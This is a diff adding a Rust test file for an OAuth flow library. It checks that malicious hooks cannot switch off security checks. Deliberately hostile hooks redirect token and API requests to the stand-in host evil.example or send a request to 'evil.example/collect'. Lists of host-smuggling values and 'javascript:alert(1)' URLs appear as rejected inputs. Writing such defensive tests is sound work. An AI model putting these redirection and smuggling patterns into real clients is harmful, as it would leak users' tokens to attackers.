@@ -1,0 +1,463 @@
+//! What hooks can do, and what the engine refuses of them.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]
+
+mod common;
+
+use std::sync::{Arc, Mutex};
+
+use authflow_core::quirks::{QueryPlacement, Quirks};
+use authflow_core::rfc::{self, AuthorizationParameters};
+use authflow_core::{
+    AuthorizationResponse, Call, Callback, ClientCredentials, EndpointUrls, Endpoints, ErrorKind, Flow, FlowManager, HttpClient,
+    HttpRequest, HttpResponse, Limits, MemoryStateStore, Pattern, Provider, Result, Revocation, Secret, StateStore, TokenSet,
+    Variable, VariableSource, async_trait,
+};
+use common::{Script, callback, credentials, provider, query_value, user};
+
+/// What a manager under test does differently.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Evil {
+    Nothing,
+    AuthorizationOrigin,
+    DropsState,
+    DropsChallenge,
+    DoublesScope,
+    TokenOrigin,
+    TokenPlainHttp,
+    DropsVerifier,
+    DropsRedirectUri,
+    DoublesParameter,
+    TwoAuthentications,
+    PreparesElsewhere,
+    LooksUpElsewhere,
+    RevokesElsewhere,
+    MovesApiRequest,
+    FailsAfterExchange,
+}
+
+#[derive(Debug)]
+struct Manager {
+    provider: Provider,
+    credentials: Arc<ClientCredentials>,
+    states: MemoryStateStore,
+    evil: Evil,
+    seen: Mutex<Vec<&'static str>>,
+}
+
+impl Manager {
+    fn saw(&self, hook: &'static str) {
+        self.seen.lock().unwrap().push(hook);
+    }
+}
+
+fn elsewhere() -> HttpRequest {
+    HttpRequest::get("https://evil.example/collect".parse().unwrap())
+}
+
+#[async_trait]
+impl FlowManager for Manager {
+    fn provider(&self) -> &Provider {
+        &self.provider
+    }
+
+    fn credentials(&self) -> Arc<ClientCredentials> {
+        Arc::clone(&self.credentials)
+    }
+
+    fn state_store(&self) -> &dyn StateStore {
+        &self.states
+    }
+
+    async fn resolve(&self, http: &dyn HttpClient) -> Result<Arc<Endpoints>> {
+        self.saw("resolve");
+        rfc::resolve(&self.provider, http).await
+    }
+
+    fn authorization_parameters<'a>(&self, cx: &'a Call<'_>) -> Result<AuthorizationParameters<'a>> {
+        self.saw("authorization_parameters");
+        let mut made = rfc::authorization_parameters(cx)?;
+        match self.evil {
+            Evil::AuthorizationOrigin => made.endpoint.to_mut().set_host(Some("evil.example")).unwrap(),
+            Evil::DropsState => made.remove("state"),
+            Evil::DropsChallenge => made.remove("code_challenge"),
+            Evil::DoublesScope => made.parameters.extend(rfc::authorization_parameters(cx)?.parameters.into_iter().skip(3).take(1)),
+            _ => made.set("hooked", "yes"),
+        }
+        Ok(made)
+    }
+
+    fn callback(&self, cx: &Call<'_>, response: &AuthorizationResponse<'_>) -> Result<Callback> {
+        self.saw("callback");
+        rfc::callback(cx, response)
+    }
+
+    fn token_request(&self, cx: &Call<'_>) -> Result<HttpRequest> {
+        self.saw("token_request");
+        let mut request = rfc::token_request(cx)?;
+        let without = |request: &HttpRequest, dropped: &str| -> Vec<u8> {
+            let kept = url::form_urlencoded::parse(&request.body).filter(|(name, _)| name != dropped);
+            url::form_urlencoded::Serializer::new(String::new()).extend_pairs(kept).finish().into_bytes()
+        };
+        match self.evil {
+            Evil::TokenOrigin => request.url = "https://evil.example/token".parse().unwrap(),
+            Evil::TokenPlainHttp => request.url = "http://as.example/token".parse().unwrap(),
+            Evil::DropsVerifier => request.body = without(&request, "code_verifier"),
+            Evil::DropsRedirectUri => request.body = without(&request, "redirect_uri"),
+            Evil::DoublesParameter => request.body.extend_from_slice(b"&grant_type=x"),
+            Evil::TwoAuthentications => {
+                request.body.extend_from_slice(format!("&client_secret={}", common::SECRET).as_bytes());
+            }
+            _ => {}
+        }
+        Ok(request)
+    }
+
+    async fn prepare_token_request(&self, _: &Call<'_>, http: &dyn HttpClient, request: &mut HttpRequest) -> Result<()> {
+        self.saw("prepare_token_request");
+        if self.evil == Evil::PreparesElsewhere {
+            http.send(elsewhere(), &Limits::default()).await?;
+        }
+        request.headers.insert("x-signed", "yes".parse().unwrap());
+        Ok(())
+    }
+
+    fn token_response(&self, cx: &Call<'_>, response: &HttpResponse) -> Result<TokenSet> {
+        self.saw("token_response");
+        rfc::token_response(cx, response)
+    }
+
+    async fn after_exchange(&self, _: &Call<'_>, http: &dyn HttpClient, tokens: &mut TokenSet) -> Result<()> {
+        self.saw("after_exchange");
+        tokens.account = Some("half-done".to_owned());
+        match self.evil {
+            Evil::LooksUpElsewhere => {
+                http.send(elsewhere(), &Limits::default()).await?;
+            }
+            Evil::FailsAfterExchange => return Err(authflow_core::Error::invalid_response("no account")),
+            _ => {}
+        }
+        Ok(())
+    }
+
+    fn authenticate(&self, cx: &Call<'_>, tokens: &TokenSet, request: &mut HttpRequest) -> Result<()> {
+        self.saw("authenticate");
+        rfc::authenticate(cx, tokens, request)?;
+        if self.evil == Evil::MovesApiRequest {
+            request.url.set_host(Some("evil.example")).unwrap();
+        }
+        Ok(())
+    }
+
+    async fn revoke(&self, cx: &Call<'_>, http: &dyn HttpClient, tokens: &TokenSet) -> Result<Revocation> {
+        self.saw("revoke");
+        if self.evil == Evil::RevokesElsewhere {
+            http.send(elsewhere(), &Limits::default()).await?;
+        }
+        rfc::revoke(cx, http, tokens).await
+    }
+}
+
+fn manager(evil: Evil) -> Manager {
+    Manager {
+        provider: provider("p").build().unwrap(),
+        credentials: Arc::new(credentials()),
+        states: MemoryStateStore::default(),
+        evil,
+        seen: Mutex::default(),
+    }
+}
+
+async fn run(flow: &Flow) -> Result<TokenSet> {
+    let authorization = flow.begin(&user()).await?;
+    let query = callback(authorization.url());
+    let completed = flow.finish(&AuthorizationResponse::from_query(&query)?, &user()).await?;
+    match completed.after_exchange {
+        Some(error) => {
+            assert!(completed.tokens.access_token.ct_eq("planted-access-1"), "the tokens are kept");
+            assert!(completed.tokens.account.is_none(), "nothing half-done is kept");
+            Err(error)
+        }
+        None => Ok(completed.tokens),
+    }
+}
+
+#[tokio::test]
+async fn no_hook_can_switch_a_check_off() {
+    for (evil, kind, sent) in [
+        (Evil::AuthorizationOrigin, ErrorKind::ForeignOrigin, 0),
+        (Evil::DropsState, ErrorKind::Configuration, 0),
+        (Evil::DropsChallenge, ErrorKind::Configuration, 0),
+        (Evil::DoublesScope, ErrorKind::Usage, 0),
+        (Evil::TokenOrigin, ErrorKind::ForeignOrigin, 0),
+        (Evil::TokenPlainHttp, ErrorKind::ForeignOrigin, 0),
+        (Evil::DropsVerifier, ErrorKind::Configuration, 0),
+        (Evil::DropsRedirectUri, ErrorKind::Configuration, 0),
+        (Evil::DoublesParameter, ErrorKind::Configuration, 0),
+        (Evil::TwoAuthentications, ErrorKind::Configuration, 0),
+        (Evil::PreparesElsewhere, ErrorKind::ForeignOrigin, 0),
+        (Evil::LooksUpElsewhere, ErrorKind::ForeignOrigin, 1),
+        (Evil::FailsAfterExchange, ErrorKind::InvalidResponse, 1),
+    ] {
+        let http = Script::new();
+        let flow = Flow::builder(manager(evil)).http_client(Arc::clone(&http)).build().unwrap();
+        http.json(r#"{"access_token":"planted-access-1"}"#);
+        let error = run(&flow).await.expect_err(&format!("{evil:?}"));
+        assert_eq!(error.kind(), kind, "{evil:?}: {error}");
+        assert_eq!(http.count(), sent, "{evil:?}");
+    }
+}
+
+#[tokio::test]
+async fn tokens_go_to_listed_origins_only() {
+    let http = Script::new();
+    let flow = Flow::builder(manager(Evil::Nothing)).http_client(Arc::clone(&http)).build().unwrap();
+    let tokens = TokenSet::new("planted-access-1", std::time::SystemTime::UNIX_EPOCH);
+    for foreign in [
+        "https://evil.example/", "http://api.example/", "https://api.example.evil.example/", "https://api.example:8443/",
+        "https://u@api.example/", "https://u:p@api.example/",
+    ] {
+        let mut request = HttpRequest::get(foreign.parse().unwrap());
+        let error = flow.authenticate(&tokens, &mut request).await.unwrap_err();
+        assert_eq!(error.kind(), ErrorKind::ForeignOrigin, "{foreign}");
+        assert!(request.headers.is_empty());
+    }
+    let mut request = HttpRequest::get("https://api.example/me?x=1".parse().unwrap());
+    flow.authenticate(&tokens, &mut request).await.unwrap();
+    assert_eq!(request.headers["authorization"], "Bearer planted-access-1");
+    assert!(request.headers["authorization"].is_sensitive());
+
+    for evil in [Evil::MovesApiRequest, Evil::RevokesElsewhere] {
+        let flow = Flow::builder(manager(evil)).http_client(Arc::clone(&http)).build().unwrap();
+        let mut request = HttpRequest::get("https://api.example/me".parse().unwrap());
+        let error = match evil {
+            Evil::MovesApiRequest => flow.authenticate(&tokens, &mut request).await.unwrap_err(),
+            _ => flow.revoke(&tokens).await.unwrap_err(),
+        };
+        assert_eq!(error.kind(), ErrorKind::ForeignOrigin);
+        assert!(request.headers.is_empty(), "nothing is attached to a request that is refused");
+    }
+    assert_eq!(http.count(), 0);
+}
+
+#[tokio::test]
+async fn pointers_forward_every_hook() {
+    let plain = Arc::new(manager(Evil::Nothing));
+    let dynamic: Arc<dyn FlowManager> = plain.clone();
+    let boxed: Box<dyn FlowManager> = Box::new(Arc::clone(&plain));
+    let flows = [
+        Flow::builder(Arc::clone(&plain)),
+        Flow::builder(dynamic),
+        Flow::builder(boxed),
+        Flow::builder(Box::new(Arc::new(Arc::clone(&plain)))),
+    ];
+    for builder in flows {
+        plain.seen.lock().unwrap().clear();
+        let http = Script::new();
+        let flow = builder.http_client(Arc::clone(&http)).build().unwrap();
+        http.json(r#"{"access_token":"planted-access-1"}"#);
+        let authorization = flow.begin(&user()).await.unwrap();
+        assert_eq!(query_value(authorization.url(), "hooked").as_deref(), Some("yes"));
+        let query = callback(authorization.url());
+        let completed = flow.finish(&AuthorizationResponse::from_query(&query).unwrap(), &user()).await.unwrap();
+        assert_eq!(http.requests()[0].headers["x-signed"], "yes");
+        http.answer(200, "text/plain", "");
+        flow.revoke(&completed.tokens).await.unwrap();
+        flow.authenticate(&completed.tokens, &mut HttpRequest::get("https://api.example/".parse().unwrap())).await.unwrap();
+        let mut seen = plain.seen.lock().unwrap().clone();
+        seen.sort_unstable();
+        seen.dedup();
+        assert_eq!(
+            seen,
+            [
+                "after_exchange", "authenticate", "authorization_parameters", "callback", "prepare_token_request", "resolve",
+                "revoke", "token_request", "token_response"
+            ]
+        );
+    }
+}
+
+fn urls(provider: &Provider, name: &str, value: &str) -> Result<EndpointUrls> {
+    let config = std::collections::BTreeMap::new();
+    let callback = std::collections::BTreeMap::from([(name.to_owned(), value.to_owned())]);
+    let mut sources = authflow_core::VariableSources::new(&config);
+    sources.callback = Some(&callback);
+    provider.endpoints().resolve(&sources)
+}
+
+#[test]
+fn a_callback_cannot_choose_the_host() {
+    let with = |variable: Variable| {
+        Provider::builder("p")
+            .authorization_endpoint("https://as.example/authorize")
+            .token_endpoint("https://{host}/token")
+            .variable("host", variable)
+            .build()
+            .unwrap()
+    };
+    let mut closed = Variable::closed([VariableSource::Callback], [("EU", "eu.as.example"), ("NA", "as.example")]);
+    closed = closed.with_default("NA");
+    let mut under = Variable::config(Pattern::HostUnder(vec!["as.example".to_owned()]));
+    under.sources = vec![VariableSource::Callback];
+    let evil = [
+        "evil.example", "as.example.evil.example", "evilas.example", "as.example/@evil.example", "as.example:80", "EVIL", "",
+        "as.example#", "as.example?", "as.example\\@evil.example", "a@as.example", "eu.as.example.", ".as.example", "-.as.example",
+    ];
+    for value in evil {
+        assert_eq!(urls(&with(closed.clone()), "host", value).unwrap_err().kind(), ErrorKind::Configuration, "{value}");
+        assert_eq!(urls(&with(under.clone()), "host", value).unwrap_err().kind(), ErrorKind::Configuration, "{value}");
+    }
+    let token = |urls: EndpointUrls| urls.token_endpoint.unwrap().to_string();
+    assert_eq!(token(urls(&with(closed.clone()), "host", "EU").unwrap()), "https://eu.as.example/token");
+    assert_eq!(token(urls(&with(closed), "other", "x").unwrap()), "https://as.example/token");
+    assert_eq!(token(urls(&with(under.clone()), "host", "shop.as.example").unwrap()), "https://shop.as.example/token");
+    assert_eq!(token(urls(&with(under), "host", "as.example").unwrap()), "https://as.example/token");
+}
+
+#[test]
+fn an_origin_from_a_token_reply_must_be_under_a_listed_root() {
+    let pattern = Pattern::OriginUnder(vec!["salesforce.example".to_owned()]);
+    let mut variable = Variable::config(pattern);
+    variable.sources = vec![VariableSource::Callback];
+    let provider = Provider::builder("p")
+        .token_endpoint("https://login.salesforce.example/token")
+        .api_origin("{instance}")
+        .variable("instance", variable)
+        .build()
+        .unwrap();
+    let api = |value: &str, url: &str| urls(&provider, "instance", value).map(|urls| urls.is_api(&url.parse().unwrap()));
+    assert!(api("https://na1.salesforce.example/path?x", "https://na1.salesforce.example/data").unwrap());
+    assert!(!api("https://na1.salesforce.example", "https://na2.salesforce.example/").unwrap());
+    for value in [
+        "http://na1.salesforce.example", "https://evil.example", "https://u@na1.salesforce.example",
+        "https://na1.salesforce.example:8443", "https://evilsalesforce.example", "na1.salesforce.example",
+    ] {
+        assert!(api(value, "https://x.example/").is_err(), "{value}");
+    }
+}
+
+#[test]
+fn mistakes_are_found_when_the_provider_is_built() {
+    let build = |authorization: &str, token: &str| {
+        Provider::builder("p").authorization_endpoint(authorization).token_endpoint(token).build()
+    };
+    for (authorization, token) in [
+        ("http://as.example/authorize", "https://as.example/token"),
+        ("https://as.example/authorize", "http://as.example/token"),
+        ("https://as.example/authorize", "http://localhost/token"),
+        ("https://as.example/authorize", "ftp://as.example/token"),
+        ("javascript:alert(1)", "https://as.example/token"),
+        ("https://u:p@as.example/authorize", "https://as.example/token"),
+        ("https://as.example/authorize#x", "https://as.example/token"),
+        ("/authorize", "https://as.example/token"),
+        ("https://{nowhere}/authorize", "https://as.example/token"),
+        ("https://as.example/{", "https://as.example/token"),
+        ("as.example", "https://as.example/token"),
+        ("", "https://as.example/token"),
+    ] {
+        let error = build(authorization, token).expect_err(authorization);
+        assert_eq!(error.kind(), ErrorKind::Configuration, "{authorization} {token}");
+        assert_eq!(error.provider(), Some("p"));
+    }
+    build("http://127.0.0.1:1234/authorize", "http://[::1]:1234/token").expect("loopback addresses may be plain");
+    for id in ["", "a b", "é", &"x".repeat(129)] {
+        assert!(Provider::builder(id).token_endpoint("https://as.example/token").build().is_err(), "{id}");
+    }
+    assert!(Provider::builder("p").build().is_err(), "no endpoint at all");
+
+    let bad_quirks = [
+        r#"{"authorization": {"omit": ["state"]}}"#,
+        r#"{"authorization": {"omit": ["code_challenge"]}}"#,
+        r#"{"authorization": {"parameters": {"state": "x"}}}"#,
+        r#"{"token": {"omit": ["code_verifier"]}}"#,
+        r#"{"token": {"parameters": {"code": "x"}}}"#,
+        r#"{"token": {"headers": {"bad header": "x"}}}"#,
+        r#"{"token": {"headers": {"x": "a\nb"}}}"#,
+        r#"{"token": {"client_authentication": "access_token_bearer"}}"#,
+    ];
+    for quirks in bad_quirks {
+        let quirks: Quirks = serde_json::from_str(quirks).unwrap();
+        let built = Provider::builder("p").token_endpoint("https://as.example/token").quirks(quirks.clone()).build();
+        assert_eq!(built.expect_err("a mistake").kind(), ErrorKind::Configuration, "{quirks:?}");
+    }
+    assert!(serde_json::from_str::<Quirks>(r#"{"tokens": {}}"#).is_err(), "a misspelt knob is an error");
+
+    for credentials in [
+        ClientCredentials::confidential("c", "").redirect_uri("https://app.example/"),
+        ClientCredentials::public("").redirect_uri("https://app.example/"),
+        ClientCredentials::public("c\n").redirect_uri("https://app.example/"),
+        ClientCredentials::public("c").redirect_uri("/callback"),
+        ClientCredentials::public("c").redirect_uri("https://app.example/#f"),
+        ClientCredentials::public("c").redirect_uri("http://app.example/"),
+        ClientCredentials::public("c").redirect_uri("javascript:alert(1)"),
+        ClientCredentials::public("c").authenticated_by(authflow_core::ClientAuthentication::ClientSecretBasic),
+    ] {
+        let provider = provider("p").build().unwrap();
+        assert_eq!(provider.check_credentials(&credentials).unwrap_err().kind(), ErrorKind::Configuration, "{credentials:?}");
+    }
+    for good in ["http://127.0.0.1:8080/cb", "http://[::1]/cb", "http://localhost:3000/cb", "com.example.app:/cb"] {
+        let credentials = ClientCredentials::public("c").redirect_uri(good);
+        provider("p").build().unwrap().check_credentials(&credentials).expect(good);
+    }
+    let no_client = Flow::builder(manager(Evil::Nothing)).build().unwrap_err();
+    assert_eq!(no_client.kind(), ErrorKind::Configuration);
+    let ttl = std::time::Duration::ZERO;
+    let no_time = Flow::builder(manager(Evil::Nothing)).http_client(Script::new()).state_ttl(ttl).build().unwrap_err();
+    assert_eq!(no_time.kind(), ErrorKind::Configuration);
+}
+
+#[tokio::test]
+async fn a_query_goes_before_or_inside_a_fragment() {
+    for (placement, expected) in [
+        (QueryPlacement::BeforeFragment, "https://as.example/?response_type=code&client_id=client-1"),
+        (QueryPlacement::InsideFragment, "https://as.example/#!/apps/A/authorize?response_type=code&client_id=client-1"),
+    ] {
+        let mut quirks = Quirks::default();
+        quirks.authorization.query_placement = Some(placement);
+        let provider = Provider::builder("p")
+            .authorization_endpoint("https://as.example/#!/apps/A/authorize")
+            .token_endpoint("https://as.example/token")
+            .quirks(quirks)
+            .build()
+            .unwrap();
+        let rig = common::Rig::with(provider, credentials());
+        let url = rig.flow.prepare().await.unwrap().url;
+        assert!(url.starts_with(expected), "{url}");
+        assert_eq!(url.ends_with("#!/apps/A/authorize"), placement == QueryPlacement::BeforeFragment);
+    }
+}
+
+#[tokio::test]
+async fn an_endpoint_keeps_its_own_query_and_no_parameter_is_doubled() {
+    let with = |endpoint: &str| {
+        let provider =
+            Provider::builder("p").authorization_endpoint(endpoint).token_endpoint("https://as.example/token").build().unwrap();
+        common::Rig::with(provider, credentials())
+    };
+    let url = with("https://as.example/authorize?tenant=a%20b").flow.prepare().await.unwrap().url;
+    assert!(url.starts_with("https://as.example/authorize?tenant=a%20b&response_type=code&"), "{url}");
+    let error = with("https://as.example/authorize?client_id=x").flow.prepare().await.unwrap_err();
+    assert_eq!(error.kind(), ErrorKind::Usage);
+}
+
+#[test]
+fn h1_no_debug_shows_a_secret() {
+    let planted = "planted-secret-value-0123456789";
+    let credentials = ClientCredentials::confidential("client-1", planted).redirect_uri("https://app.example/cb");
+    let mut tokens = TokenSet::new(planted, std::time::SystemTime::UNIX_EPOCH);
+    tokens.refresh_token = Some(Secret::new(planted));
+    tokens.id_token = Some(Secret::new(planted));
+    tokens.extra.insert("team_token".to_owned(), planted.into());
+    tokens.callback.insert("location".to_owned(), planted.to_owned());
+    let mut request = HttpRequest::get(format!("https://as.example/{planted}?t={planted}").parse().unwrap());
+    request.body = planted.as_bytes().to_vec();
+    request.headers.insert("authorization", planted.parse().unwrap());
+    let response = HttpResponse::new(http::StatusCode::OK, planted).with_header(http::header::SET_COOKIE, planted.parse().unwrap());
+    let query = format!("code={planted}&state={planted}");
+    let answer = AuthorizationResponse::from_query(&query).unwrap();
+    let binding = authflow_core::Binding::browser(Secret::new(planted));
+    let grant = authflow_core::Grant::RefreshToken { refresh_token: Secret::new(planted) };
+    let provider = Provider::builder("p").token_endpoint("https://as.example/t").config("key", planted).build().unwrap();
+    let shown = format!("{credentials:?} {tokens:?} {request:?} {response:?} {answer:?} {binding:?} {grant:?} {provider:?}");
+    assert!(!shown.contains(planted), "{shown}");
+}
